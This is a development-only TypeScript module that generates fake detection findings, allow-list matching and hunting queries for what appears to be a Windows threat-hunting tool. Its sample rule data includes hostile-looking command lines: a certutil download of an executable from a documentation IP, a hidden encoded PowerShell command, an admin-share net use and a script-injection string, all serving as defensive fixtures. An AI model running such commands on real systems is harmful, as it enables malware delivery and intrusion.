// Dev-only findings for the fake API (?fake=1): rules of the built-in pack's shape spread over
// the fake sessions and processes, a few hundred on the 20,000-process session (tree badges
// and the virtualized list at scale), a case warning, baseline candidates, and an in-memory
// allow-list applied the way the engine applies it (rule + every condition).

import type { AllowCondition, AllowListEntry, AllowListImportResult, BaselineCandidate, NewAllowListEntry } from '../../shared/allowlist.js';
import { validateNewEntry } from '../../shared/allowlist.js';
import type { AttackLayer, Finding, FindingPage, FindingQuery, FindingsSummary, HuntingQueries, Severity } from '../../shared/findings.js';
import { severityRank } from '../../shared/findings.js';
import { tacticsOf, TACTICS, techniquesOf } from '../lib/findings-view.js';
import { BIG_SESSION, fakeProcesses, fakeSessions } from './fake-sessions.js';

interface FakeRule {
  readonly id: string;
  readonly title: string;
  readonly level: Severity;
  readonly origin: Finding['origin'];
  readonly tags: readonly string[];
  readonly parent: string;
  readonly image: string;
  readonly cmd: (i: number) => string;
}

const RULES: readonly FakeRule[] = [
  { id: 'chainline.builtin.office-spawns-shell', title: 'Office Application Spawning Shell', level: 'high', origin: 'builtin', tags: ['attack.execution', 'attack.t1059'], parent: 'C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE', image: 'C:\\Windows\\System32\\cmd.exe', cmd: (i) => `cmd.exe /c "%TEMP%\\invoice_${i}.bat"` },
  { id: 'chainline.builtin.encoded-powershell', title: 'Encoded PowerShell Command Line', level: 'medium', origin: 'builtin', tags: ['attack.execution', 'attack.defense_evasion', 'attack.t1059.001', 'attack.t1027'], parent: 'C:\\Windows\\System32\\cmd.exe', image: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe', cmd: () => `powershell.exe -nop -w hidden -enc ${'SQBFAFgA'.repeat(12)}` },
  { id: 'chainline.builtin.lolbin-user-path', title: 'Signed LOLBin Run From a User-Writable Path', level: 'medium', origin: 'builtin', tags: ['attack.defense_evasion', 'attack.t1218'], parent: 'C:\\Windows\\explorer.exe', image: 'C:\\Users\\Public\\certutil.exe', cmd: (i) => `certutil.exe -urlcache -f http://198.51.100.${i % 250}/a.txt a.exe` },
  { id: 'chainline.builtin.svchost-parent', title: 'svchost.exe With an Unexpected Parent', level: 'high', origin: 'builtin', tags: ['attack.defense_evasion', 'attack.t1036.005'], parent: 'C:\\Users\\alice\\AppData\\Local\\Temp\\svhost.exe', image: 'C:\\Windows\\System32\\svchost.exe', cmd: () => 'svchost.exe -k netsvcs' },
  { id: 'chainline.builtin.service-user-path', title: 'Service Installed From a User-Writable Path', level: 'critical', origin: 'builtin', tags: ['attack.persistence', 'attack.privilege_escalation', 'attack.t1543.003'], parent: 'C:\\Windows\\System32\\services.exe', image: 'C:\\ProgramData\\upd.exe', cmd: () => 'C:\\ProgramData\\upd.exe -service' },
  { id: 'chainline.case.token-full-without-admin', title: 'Full elevated token in a session without admin rights', level: 'high', origin: 'case', tags: ['attack.privilege-escalation', 'attack.t1134', 'attack.t1548.002'], parent: 'C:\\Windows\\explorer.exe', image: 'C:\\Windows\\System32\\cmd.exe', cmd: () => 'cmd.exe' },
  { id: 'user.rules.whoami', title: 'Whoami Execution', level: 'low', origin: 'user', tags: ['attack.discovery', 'attack.t1033'], parent: 'C:\\Windows\\System32\\cmd.exe', image: 'C:\\Windows\\System32\\whoami.exe', cmd: (i) => (i % 2 ? 'whoami /all' : 'whoami <script>alert("x")</script>') },
  { id: 'user.rules.net-use', title: 'Net Use to an Admin Share', level: 'informational', origin: 'user', tags: ['attack.lateral_movement', 'attack.t1021.002'], parent: 'C:\\Windows\\System32\\cmd.exe', image: 'C:\\Windows\\System32\\net.exe', cmd: (i) => `net use \\\\FILESRV\\C$ /user:CORP\\svc_backup ${i}` },
];

interface FakeFinding {
  readonly base: Omit<Finding, 'suppressed'>;
  readonly data: Readonly<Record<string, string>>;
}

function mix(i: number): number {
  let x = Math.imul(i ^ 0x27d4eb2d, 0x85ebca6b);
  x ^= x >>> 15;
  return Math.imul(x, 0xc2b2ae35) >>> 0;
}

function build(eventCount: number): FakeFinding[] {
  const out: FakeFinding[] = [];
  const sessions = fakeSessions().sessions;
  let n = 0;
  const add = (sessionId: string, host: string, user: string, processId: string | null, time: string, k: number) => {
    const rule = RULES[mix(k) % RULES.length]!;
    const eventId = eventCount > 0 ? 1 + (mix(k + 7) % Math.min(eventCount, 200_000)) : 1;
    const sid = user === 'svc_backup' ? 'S-1-5-18' : `S-1-5-21-1004336348-1177238915-682003330-${1100 + (mix(k) % 5)}`;
    const cmd = rule.cmd(k);
    const imageName = rule.image.split('\\').pop() ?? rule.image;
    out.push({
      base: {
        id: `${rule.id}:${eventId}:${n++}`, ruleId: rule.id, ruleTitle: rule.title, level: rule.level, origin: rule.origin, tags: rule.tags,
        eventIds: [eventId], time, host, sessionId, processId,
        summary: `${rule.title}: ${imageName} (PID ${1000 + (mix(k) % 60000)}) by ${rule.parent.split('\\').pop()}: ${cmd}`,
      },
      data: { SubjectUserSid: sid, SubjectUserName: user, ParentProcessName: rule.parent, NewProcessName: rule.image, CommandLine: cmd },
    });
  };
  // The big session: 300 findings over its tree.
  const big = fakeProcesses(BIG_SESSION);
  for (let k = 0; k < 300; k++) {
    // The first ones on the first processes (on screen when the tree opens), the rest anywhere.
    const p = big[k < 60 ? k : mix(k + 99) % big.length]!;
    add(BIG_SESSION, p.host, 'alice', p.id, p.start ?? sessions[0]!.start, k);
  }
  // One session in nine elsewhere: one to three findings on its processes (or the session).
  for (const s of sessions) {
    const i = Number(s.id.slice(1));
    if (s.id === BIG_SESSION || mix(i) % 9 !== 0) continue;
    const procs = fakeProcesses(s.id);
    const hits = 1 + (mix(i + 1) % 3);
    for (let j = 0; j < hits; j++) {
      const p = procs.length > 0 ? procs[j % procs.length]! : null;
      add(s.id, s.host, s.user, p ? p.id : null, p?.start ?? s.start, i * 10 + j);
    }
  }
  return out;
}

function wildcard(pattern: string): RegExp {
  const body = pattern.replace(/[.+^${}()|[\]\\]/g, '\\$&').replace(/\*/g, '.*').replace(/\?/g, '.');
  return new RegExp(`^${body}$`, 'is');
}

function holds(c: AllowCondition, f: FakeFinding): boolean {
  switch (c.kind) {
    case 'field': {
      const v = Object.entries(f.data).find(([k]) => k.toLowerCase() === c.field.toLowerCase())?.[1];
      if (v === undefined) return false;
      return c.match === 'equals' ? v.toLowerCase() === c.value.toLowerCase() : wildcard(c.value).test(v);
    }
    case 'host':
      return f.base.host.toLowerCase() === c.host.toLowerCase();
    case 'command-line':
      return f.data['CommandLine'] === c.value;
    case 'chain':
      return (
        (f.data['NewProcessName'] ?? '').toLowerCase().endsWith(c.image.toLowerCase().split('\\').pop() ?? '') &&
        (f.data['ParentProcessName'] ?? '').toLowerCase().endsWith(c.parentImage.toLowerCase().split('\\').pop() ?? '') &&
        f.data['CommandLine'] === c.commandLine
      );
    default: {
      const unreachable: never = c;
      return unreachable;
    }
  }
}

const emptyCounts = (): Record<Severity, number> => ({ informational: 0, low: 0, medium: 0, high: 0, critical: 0 });

export interface FakeFindings {
  listFindings(query: FindingQuery): Promise<FindingPage>;
  getFindingsSummary(): Promise<FindingsSummary>;
  getAllowList(): Promise<readonly AllowListEntry[]>;
  addAllowListEntry(entry: NewAllowListEntry): Promise<AllowListEntry>;
  removeAllowListEntry(id: string): Promise<boolean>;
  exportAllowList(): Promise<string>;
  importAllowList(yamlText: string): Promise<AllowListImportResult>;
  getAttackLayer(): Promise<AttackLayer>;
  getHuntingQueries(findingId: string): Promise<HuntingQueries>;
  getBaselineCandidates(): Promise<readonly BaselineCandidate[]>;
  /** Event data the fake's getEventDetail merges in, so "Allow-list…" has fields to prefill from. */
  dataOfEvent(eventId: number): Readonly<Record<string, string>> | null;
}

export function createFakeFindings(eventCount: () => number): FakeFindings {
  let all: FakeFinding[] | null = null;
  const findings = () => (all ??= build(eventCount()));
  const allowList: AllowListEntry[] = [];
  let nextId = 1;

  const suppressionOf = (f: FakeFinding): Finding['suppressed'] => {
    const e = allowList.find((x) => (x.ruleId === '*' || x.ruleId === f.base.ruleId) && x.conditions.every((c) => holds(c, f)));
    return e ? { entryId: e.id, kind: e.kind, reason: e.reason, by: e.by, at: e.at } : null;
  };
  const current = (): Finding[] =>
    findings()
      .map((f) => ({ ...f.base, suppressed: suppressionOf(f) }))
      .sort((a, b) => severityRank(b.level) - severityRank(a.level) || a.time.localeCompare(b.time) || a.id.localeCompare(b.id));

  const add = (entry: NewAllowListEntry): AllowListEntry => {
    const checked = validateNewEntry(entry);
    const made: AllowListEntry = { ...checked, id: `fake-allow-${nextId++}`, at: checked.at ?? new Date().toISOString().replace(/\.\d+Z$/, 'Z') };
    allowList.push(made);
    return made;
  };

  return {
    async listFindings(q) {
      let rows = current();
      if (q.suppressed !== undefined) rows = rows.filter((f) => (f.suppressed !== null) === q.suppressed);
      if (q.minLevel !== undefined) rows = rows.filter((f) => severityRank(f.level) >= severityRank(q.minLevel!));
      if (q.ruleId !== undefined) rows = rows.filter((f) => f.ruleId === q.ruleId);
      if (q.sessionId !== undefined) rows = rows.filter((f) => f.sessionId === q.sessionId);
      if (q.processId !== undefined) rows = rows.filter((f) => f.processId === q.processId);
      if (q.host !== undefined) rows = rows.filter((f) => f.host.toLowerCase().split('.')[0] === q.host!.toLowerCase().split('.')[0]);
      const eventId = q.eventId;
      if (eventId !== undefined) rows = rows.filter((f) => f.eventIds.includes(eventId));
      return { total: rows.length, offset: q.offset, rows: rows.slice(q.offset, q.offset + q.limit) };
    },
    async getFindingsSummary() {
      const rows = current();
      const active = rows.filter((f) => f.suppressed === null);
      const bySeverity = emptyCounts();
      const tactics = new Map<string, number>();
      const rules = new Map<string, { f: Finding; count: number; suppressed: number }>();
      const sessions = new Map<string, Record<Severity, number>>();
      for (const f of rows) {
        const r = rules.get(f.ruleId) ?? { f, count: 0, suppressed: 0 };
        if (f.suppressed) r.suppressed++;
        else r.count++;
        rules.set(f.ruleId, r);
      }
      for (const f of active) {
        bySeverity[f.level]++;
        for (const t of tacticsOf(f.tags)) tactics.set(t, (tactics.get(t) ?? 0) + 1);
        if (f.sessionId !== null) {
          const c = sessions.get(f.sessionId) ?? emptyCounts();
          c[f.level]++;
          sessions.set(f.sessionId, c);
        }
      }
      return {
        computedAt: new Date(0).toISOString(),
        total: rows.length,
        suppressed: rows.length - active.length,
        bySeverity,
        byTactic: [...tactics].map(([tactic, count]) => {
          const t = TACTICS.find((x) => x.tactic === tactic);
          return { tactic, name: t?.name ?? 'Unknown', id: t?.id ?? null, count };
        }),
        byRule: [...rules.values()].map(({ f, count, suppressed }) => ({ ruleId: f.ruleId, ruleTitle: f.ruleTitle, level: f.level, origin: f.origin, count, suppressed })),
        bySession: [...sessions].map(([sessionId, c]) => ({ sessionId, bySeverity: c })),
        warnings: [
          {
            id: 'chainline.case.command-line-auditing-off',
            title: '4688 events without CommandLine: command-line auditing is off',
            detail: 'Process creation events (Security 4688) without a command line — DC01.corp.local: 812 of 815.',
            remedy: 'Group Policy › Computer Configuration › Administrative Templates › System › Audit Process Creation › Include command line in process creation events = Enabled.',
            hosts: [{ host: 'DC01.corp.local', without: 812, total: 815 }],
            sampleEventIds: [3, 5, 8],
          },
        ],
      };
    },
    async getAllowList() {
      return [...allowList];
    },
    async addAllowListEntry(entry) {
      return add(entry);
    },
    async removeAllowListEntry(id) {
      const i = allowList.findIndex((e) => e.id === id);
      if (i >= 0) allowList.splice(i, 1);
      return i >= 0;
    },
    async exportAllowList() {
      // JSON is YAML: the fake needs no YAML library in the bundle.
      return JSON.stringify({ format: 'chainline-allowlist', version: 1, entries: allowList }, null, 2) + '\n';
    },
    async importAllowList(text) {
      let parsed: { entries?: unknown };
      try {
        parsed = JSON.parse(text) as { entries?: unknown };
      } catch {
        throw new Error('the fake API reads only the JSON form of an allow-list (the real one reads YAML)');
      }
      if (!Array.isArray(parsed.entries)) throw new Error('the allow-list has no entries list');
      let added = 0;
      let duplicates = 0;
      for (const raw of parsed.entries as Record<string, unknown>[]) {
        const { id: _id, ...rest } = raw;
        const entry = validateNewEntry(rest);
        if (allowList.some((e) => e.ruleId === entry.ruleId && JSON.stringify(e.conditions) === JSON.stringify(entry.conditions))) duplicates++;
        else {
          add(entry);
          added++;
        }
      }
      return { added, duplicates, entries: [...allowList] };
    },
    async getAttackLayer() {
      const counts = new Map<string, number>();
      for (const f of current()) if (f.suppressed === null) for (const t of techniquesOf(f.tags)) counts.set(t, (counts.get(t) ?? 0) + 1);
      const max = Math.max(1, ...counts.values());
      return {
        name: 'Chainline (fake)', versions: { attack: '16', navigator: '5.1.0', layer: '4.5' }, domain: 'enterprise-attack',
        description: 'Techniques of the fake case’s active findings', sorting: 3, hideDisabled: false,
        techniques: [...counts].map(([techniqueID, score]) => ({ techniqueID, score, color: '', comment: `${score} findings`, enabled: true, showSubtechniques: true })),
        gradient: { colors: ['#fff7ec', '#e34a33'], minValue: 0, maxValue: max }, legendItems: [],
        showTacticRowBackground: false, selectTechniquesAcrossTactics: true, selectSubtechniquesWithParent: false,
      };
    },
    async getHuntingQueries(findingId) {
      const f = findings().find((x) => x.base.id === findingId);
      if (!f) throw new Error(`no finding ${findingId}`);
      const image = (f.data['NewProcessName'] ?? '').split('\\').pop() ?? '';
      const parent = (f.data['ParentProcessName'] ?? '').split('\\').pop() ?? '';
      const q = (s: string) => s.replace(/\\/g, '\\\\').replace(/"/g, '\\"');
      return {
        findingId,
        note: null,
        queries: [
          { language: 'kql', target: 'SecurityEvent (4688)', query: `SecurityEvent\n| where EventID == 4688\n| where NewProcessName endswith @"\\${image}"\n| where ParentProcessName endswith @"\\${parent}"\n| project TimeGenerated, Computer, SubjectUserName, CommandLine` },
          { language: 'kql', target: 'DeviceProcessEvents (Defender)', query: `DeviceProcessEvents\n| where FileName =~ "${q(image)}" and InitiatingProcessFileName =~ "${q(parent)}"\n| project Timestamp, DeviceName, AccountName, ProcessCommandLine` },
          { language: 'spl', target: 'Security 4688', query: `index=wineventlog EventCode=4688 New_Process_Name="*\\\\${image}" Creator_Process_Name="*\\\\${parent}"\n| table _time host Account_Name Process_Command_Line` },
        ],
      };
    },
    async getBaselineCandidates() {
      const entry = (commandLine: string): NewAllowListEntry => ({
        kind: 'baseline', ruleId: '*', reason: 'Logon script seen on every workstation every morning', by: 'chainline',
        conditions: [{ kind: 'chain', parentImage: 'C:\\Windows\\System32\\userinit.exe', image: 'C:\\Windows\\System32\\cmd.exe', commandLine }],
      });
      const cmd = 'cmd.exe /c "\\\\corp.local\\NETLOGON\\logon.bat"';
      return [
        {
          parentImage: 'C:\\Windows\\System32\\userinit.exe', image: 'C:\\Windows\\System32\\cmd.exe', commandLine: cmd,
          hosts: ['WS01.corp.local', 'WS02.corp.local'], occurrences: 412, sessions: 398, days: 30,
          first: '2024-02-12T07:58:00.0000000Z', last: '2024-03-12T08:02:13.0000000Z', processIds: ['f2-p0'], entry: entry(cmd),
        },
      ];
    },
    dataOfEvent(eventId) {
      return findings().find((f) => f.base.eventIds.includes(eventId))?.data ?? null;
    },
  };
}

